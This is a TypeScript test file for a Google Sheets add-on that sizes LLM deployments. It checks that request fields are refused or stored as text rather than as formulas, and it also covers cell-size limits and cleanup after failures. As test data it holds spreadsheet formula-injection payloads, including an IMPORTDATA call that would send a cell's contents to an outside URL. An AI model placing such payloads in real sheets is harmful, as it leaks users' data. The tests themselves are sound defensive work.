/**
 * Hostile and careless insertion requests (issue 14, classes 1 and 3), through the real server code
 * (dist/Code.js) on the Apps Script shim over HyperFormula:
 *
 * - Nothing a request carries becomes a formula: every user-text field of every template, with a
 *   leading =, +, -, @ (and after trimming), ends up as text in the workbook, and no setValues or
 *   setFormulas argument is text Sheets would read as a formula except the plan's own formulas.
 * - A model or GPU the functions would not resolve, and an oversized field, is refused before
 *   anything is written.
 * - An insertion that fails after insertSheet leaves no sheet behind; no template writes a cell
 *   over Sheets' 50,000 characters.
 */
import { parseRange } from '../../src/addon/a1';
import { INPUTS, INPUT_KEYS, type InputKey } from '../../src/addon/inputs';
import type { CellContent, SheetPlan } from '../../src/addon/plan';
import { renderTemplate } from '../../src/addon/render';
import { DEFAULT_REQUEST, TEMPLATE_IDS, parseRequest, type TemplateId } from '../../src/addon/request';
import type { RecordedCall } from '../../preview/engine/apps-script';
import { createWorkbook, type Workbook } from '../helpers/workbook';

const CELL_LIMIT = 50_000;
const WRITES = new Set(['setValues', 'setFormulas']);

/**
 * Text Sheets would read as a formula when written with setValues or setFormulas: trimmed, it
 * starts with =, +, - or @, and it is not forced to text by a leading apostrophe.
 */
const readsAsFormula = (value: unknown): value is string =>
  typeof value === 'string' && !value.startsWith("'") && /^[=+\-@]/.test(value.trimStart());

/** What the plan marks as a formula (plan.ts: a Formula object), as its text. */
function planFormula(cell: CellContent | undefined): string | undefined {
  return typeof cell === 'object' && cell !== null && 'formula' in cell ? cell.formula : undefined;
}

/** The plan's cell at a sheet position (1-based), if a block covers it. */
function planCell(plan: SheetPlan, row: number, col: number): CellContent | undefined {
  for (const block of plan.blocks) {
    const cell = block.values[row - block.row]?.[col - block.col];
    if (cell !== undefined) return cell;
  }
  return undefined;
}

/** The writes of cell contents into a sheet since call `since`, as [A1 of the cell, its content]. */
function writtenCells(calls: readonly RecordedCall[], sheet: string): { row: number; col: number; value: unknown }[] {
  const cells: { row: number; col: number; value: unknown }[] = [];
  for (const call of calls) {
    if (!WRITES.has(call.method) || !call.target.startsWith(`${sheet}!`)) continue;
    const area = parseRange(call.target.slice(sheet.length + 1));
    if (!area) throw new Error(`unreadable target ${call.target}`);
    (call.args[0] as unknown[][]).forEach((row, i) =>
      row.forEach((value, j) => cells.push({ row: area.row + i, col: area.col + j, value })),
    );
  }
  return cells;
}

interface Attempt {
  readonly request: Record<string, unknown>;
  /** The inserted sheet, or the error's message. */
  readonly sheet?: string;
  readonly error?: string;
  /** The shim's calls the attempt made. */
  readonly calls: readonly RecordedCall[];
}

function attempt(wb: Workbook, template: TemplateId, changes: Record<string, unknown>): Attempt {
  const request = { ...DEFAULT_REQUEST, template, ...changes };
  const since = wb.shim.calls.length;
  const before = wb.hf.getSheetNames();
  try {
    const sheet = wb.global.insertSizingGrid(request) as string;
    return { request, sheet, calls: wb.shim.calls.slice(since) };
  } catch (error) {
    const calls = wb.shim.calls.slice(since);
    expect(wb.hf.getSheetNames()).toEqual(before);
    return { request, error: (error as Error).message, calls };
  }
}

/** Variants of a field's value that Sheets would read as a formula if written as they are. */
function hostileValues(key: InputKey): string[] {
  const base = String(DEFAULT_REQUEST[key]);
  const values = [
    '=IMPORTDATA("https://example.invalid/?q="&A1)',
    '=1+1',
    ' =1+1',
    '+1+1',
    '-1+1',
    '@A1',
    "'=1+1",
    ...['=', '+', '-', '@', ' =', ' -', '\t+'].map((p) => `${p}${base}`),
  ];
  // A Hugging Face id of a "mirror" resolves by its repository name: these are a preset.
  if (key === 'model') values.push(...['-', '+', '@'].map((p) => `${p}IMPORTDATA(A1)/${base}`));
  // A custom GPU's name is free text.
  if (key === 'gpu') values.push('tflops=312; bandwidth_gbs=2039; memory_gb=80; name=-IMPORTDATA(A1)');
  return values;
}

describe('class 1: request text is never written as a formula', () => {
  test.each(TEMPLATE_IDS)('%s: every field, every leading =, +, -, @: refused, or in the sheet as text', (template) => {
    const wb = createWorkbook();
    const inserted: string[] = [];
    for (const key of INPUT_KEYS) {
      for (const value of hostileValues(key)) {
        const result = attempt(wb, template, { [key]: value });
        if (result.error !== undefined) {
          // Refused: before anything was written.
          expect(result.calls.filter((c) => c.method === 'insertSheet')).toEqual([]);
          expect(result.calls.filter((c) => c.method.startsWith('set'))).toEqual([]);
          continue;
        }
        const sheet = result.sheet as string;
        inserted.push(`${key}=${value}`);
        const plan = renderTemplate(parseRequest(result.request));
        // The calls: text Sheets would read as a formula only where the plan has that formula.
        for (const cell of writtenCells(result.calls, sheet)) {
          if (!readsAsFormula(cell.value)) continue;
          expect({ ...cell, plan: planFormula(planCell(plan, cell.row, cell.col)) }).toEqual({
            ...cell,
            plan: cell.value,
          });
        }
        // The workbook: every text of the plan is that text, with no formula behind it.
        const sheetId = wb.hf.getSheetId(sheet) as number;
        for (const block of plan.blocks) {
          block.values.forEach((row, i) =>
            row.forEach((content, j) => {
              if (typeof content !== 'string' || content === '') return;
              const address = { sheet: sheetId, row: block.row - 1 + i, col: block.col - 1 + j };
              expect({ content, formula: wb.hf.getCellFormula(address), value: wb.hf.getCellValue(address) }).toEqual({
                content,
                formula: undefined,
                value: content,
              });
            }),
          );
        }
      }
    }
    // Text that is a preset and starts like a formula does reach the sheet (as text).
    for (const value of ['-IMPORTDATA(A1)/llama-3.1-8b', '+IMPORTDATA(A1)/llama-3.1-8b', '-llama-3.1-8b']) {
      expect(inserted).toContain(`model=${value}`);
    }
    if (template !== 'gpu-comparison') {
      expect(inserted).toContain('gpu=tflops=312; bandwidth_gbs=2039; memory_gb=80; name=-IMPORTDATA(A1)');
    }
  });

  test('the model cell holds "-IMPORTDATA(A1)/llama-3.1-8b" as text, and the sheet computes from it', () => {
    const wb = createWorkbook();
    const model = '-IMPORTDATA(A1)/llama-3.1-8b';
    const sheet = wb.global.insertSizingGrid({ ...DEFAULT_REQUEST, template: 'sizing', model }) as string;
    const values = wb.values(sheet);
    const row = values.findIndex((r) => r[0] === INPUTS.model.label);
    const address = { sheet: wb.hf.getSheetId(sheet) as number, row, col: 1 };
    expect(wb.hf.getCellFormula(address)).toBeUndefined();
    expect(wb.hf.getCellValue(address)).toBe(model);
    const vram = values.find((r) => r[0] === 'Total VRAM (GiB)')?.[1];
    expect(typeof vram).toBe('number');
  });

  test('the shim reads written text as Sheets does: a leading apostrophe keeps it text; + and - start a formula', () => {
    const wb = createWorkbook();
    const app = wb.shim.globals.SpreadsheetApp as { getActiveSpreadsheet(): GoogleAppsScript.Spreadsheet.Spreadsheet };
    const range = app.getActiveSpreadsheet().getActiveSheet().getRange('A1:F1');
    range.setValues([["'=1+1", "'-H1", '-H1', '+1+1', '-5', "''x"]]);
    expect(range.getFormulas()).toEqual([['', '', '=-H1', '=+1+1', '', '']]);
    expect(range.getValues()).toEqual([['=1+1', '-H1', 0, 2, -5, "'x"]]);
  });
});

describe('class 1: names the functions do not resolve are refused before anything is written', () => {
  const cases: [string, Record<string, unknown>, string][] = [
    ['an unknown model', { model: 'no-such-model-7b' }, 'request field model: unknown model "no-such-model-7b"'],
    ['a broken config.json', { model: '{ "hidden_size": ' }, 'request field model is not valid config.json text'],
    ['an incomplete key=value model', { model: 'hidden=4096' }, 'request field model'],
    ['a formula as the model', { model: '=IMPORTDATA("https://example.invalid/?q="&A1)' }, 'request field model'],
    ['an unknown GPU', { gpu: 'no-such-gpu' }, 'request field gpu: unknown GPU "no-such-gpu"'],
    ['a bad custom GPU', { gpu: 'tflops=lots; memory_gb=80' }, 'request field gpu'],
    ['a formula as the GPU', { gpu: '=1+1' }, 'request field gpu'],
  ];
  test.each(cases)('%s', (_what, changes, message) => {
    for (const template of TEMPLATE_IDS) {
      const wb = createWorkbook();
      expect(() => wb.global.insertSizingGrid({ ...DEFAULT_REQUEST, template, ...changes })).toThrow(message);
      expect(wb.shim.calls).toEqual([]);
      expect(wb.hf.getSheetNames()).toEqual(['Sheet1']);
    }
  });
});

/** A config.json the functions read, padded with white space inside the JSON to `length` characters. */
function paddedConfig(length: number): string {
  const config = JSON.stringify({
    hidden_size: 4096,
    num_hidden_layers: 32,
    intermediate_size: 14336,
    vocab_size: 128256,
    num_attention_heads: 32,
    num_key_value_heads: 8,
    hidden_act: 'silu',
    tie_word_embeddings: false,
  });
  return `{${' '.repeat(length - config.length)}${config.slice(1)}`;
}

/** A custom GPU of `length` characters (white space between its pairs pads it). */
function paddedGpu(length: number): string {
  const [first, rest] = ['tflops=989;', 'bandwidth_gbs=3350; memory_gb=80; name=Padded GPU'];
  return `${first}${' '.repeat(length - first.length - rest.length)}${rest}`;
}

describe("class 3: Sheets' limits", () => {
  const oversized: [string, Record<string, unknown>][] = [
    ['a 100 KB model name', { model: 'x'.repeat(100_000) }],
    ['a 100 KB GPU name', { gpu: 'g'.repeat(100_000) }],
    ['a 30,000-character config.json', { model: paddedConfig(30_000) }],
    ['a 2,000-character custom GPU', { gpu: paddedGpu(2_000) }],
    ['a 300-character model name', { model: `${'a'.repeat(290)}/llama-3.1-8b` }],
    ['a 1 MB precision', { precision: 'p'.repeat(1_000_000) }],
    ['a 100 KB number', { batch: '9'.repeat(100_000) }],
  ];
  test.each(oversized)('%s is refused before anything is written, quoting at most ~80 characters', (_what, changes) => {
    for (const template of TEMPLATE_IDS) {
      const wb = createWorkbook();
      let message = '';
      try {
        wb.global.insertSizingGrid({ ...DEFAULT_REQUEST, template, ...changes });
      } catch (error) {
        message = (error as Error).message;
      }
      expect(message).toMatch(/^request field \w+ /);
      expect(message.length).toBeLessThan(300);
      expect(wb.shim.calls).toEqual([]);
    }
  });

  test('fields at their limits insert, and no template writes a cell over 50,000 characters', () => {
    const requests = [
      { model: paddedConfig(20_000), gpu: paddedGpu(1_000) },
      { model: paddedConfig(20_000) },
      { model: 'x'.repeat(100_000), gpu: 'g'.repeat(100_000) },
    ];
    for (const template of TEMPLATE_IDS) {
      for (const [i, changes] of requests.entries()) {
        const wb = createWorkbook();
        const result = attempt(wb, template, changes);
        if (i < 2) expect(result.error).toBeUndefined();
        const longest = Math.max(
          0,
          ...result.calls
            .filter((c) => WRITES.has(c.method))
            .flatMap((c) => (c.args[0] as unknown[][]).flat())
            .map((v) => (typeof v === 'string' ? v.length : 0)),
        );
        expect({ template, request: i, longest: longest <= CELL_LIMIT }).toEqual({
          template,
          request: i,
          longest: true,
        });
      }
    }
  });

  test('the shim refuses a cell over 50,000 characters as Sheets does, and writes nothing', () => {
    const wb = createWorkbook();
    const app = wb.shim.globals.SpreadsheetApp as { getActiveSpreadsheet(): GoogleAppsScript.Spreadsheet.Spreadsheet };
    const range = app.getActiveSpreadsheet().getActiveSheet().getRange('A1:B1');
    expect(() => range.setValues([['kept out', 'x'.repeat(CELL_LIMIT + 1)]])).toThrow(
      'Your input contains more than the maximum of 50000 characters in a single cell.',
    );
    expect(range.getValues()).toEqual([['', '']]);
    range.setValues([['fits', 'x'.repeat(CELL_LIMIT)]]);
    expect(range.getValues()[0][0]).toBe('fits');
  });

  const failures: [string, number][] = [
    ['setValues', 1],
    ['setValues', 3],
    ['setNumberFormats', 2],
    ['setDataValidation', 1],
    ['insertChart', 1],
    ['setColumnWidth', 2],
    ['flush', 1],
  ];
  test.each(failures)(
    'a failing %s (call %i) after insertSheet leaves no sheet behind, under the lock',
    (method, nth) => {
      for (const template of TEMPLATE_IDS) {
        if (method === 'insertChart' && template !== 'sizing') continue;
        const wb = createWorkbook();
        wb.hf.addSheet('LLM sizing');
        wb.shim.setActiveRange('Sheet1', 'A1');
        wb.shim.failCall(method, nth, 'Service Spreadsheets failed while accessing document');
        expect(() => wb.global.insertSizingGrid({ ...DEFAULT_REQUEST, template })).toThrow(
          'Service Spreadsheets failed while accessing document',
        );
        expect(wb.hf.getSheetNames()).toEqual(['Sheet1', 'LLM sizing']);
        expect(wb.shim.activeSheet()).toBe('Sheet1');
        const methods = wb.shim.calls.map((c) => c.method);
        expect(methods.filter((m) => m === 'insertSheet')).toHaveLength(1);
        // Deleted before the lock was released.
        expect(methods.indexOf('deleteSheet')).toBeGreaterThan(methods.indexOf('insertSheet'));
        expect(methods.indexOf('deleteSheet')).toBeLessThan(methods.lastIndexOf('releaseLock'));
        expect(wb.shim.lock.held).toBe(false);
        // The next insertion works, and takes the name the failed one would have had.
        expect(wb.global.insertSizingGrid({ ...DEFAULT_REQUEST, template })).toBe(
          template === 'sizing'
            ? 'LLM sizing 2'
            : renderTemplate(parseRequest({ ...DEFAULT_REQUEST, template })).baseName,
        );
      }
    },
  );
});

describe('class 4: counts in a request are decimal numbers', () => {
  test.each(['0x10', '0b11', '0o7'])('batch "%s" is refused before anything is written', (batch) => {
    const wb = createWorkbook();
    expect(() => wb.global.insertSizingGrid({ ...DEFAULT_REQUEST, template: 'sizing', batch })).toThrow(
      `request field batch must be a positive whole number, got "${batch}"`,
    );
    expect(wb.shim.calls).toEqual([]);
  });

  test('decimal text is a count', () => {
    const wb = createWorkbook();
    expect(() => wb.global.insertSizingGrid({ ...DEFAULT_REQUEST, template: 'sizing', batch: ' 16 ' })).not.toThrow();
  });
});
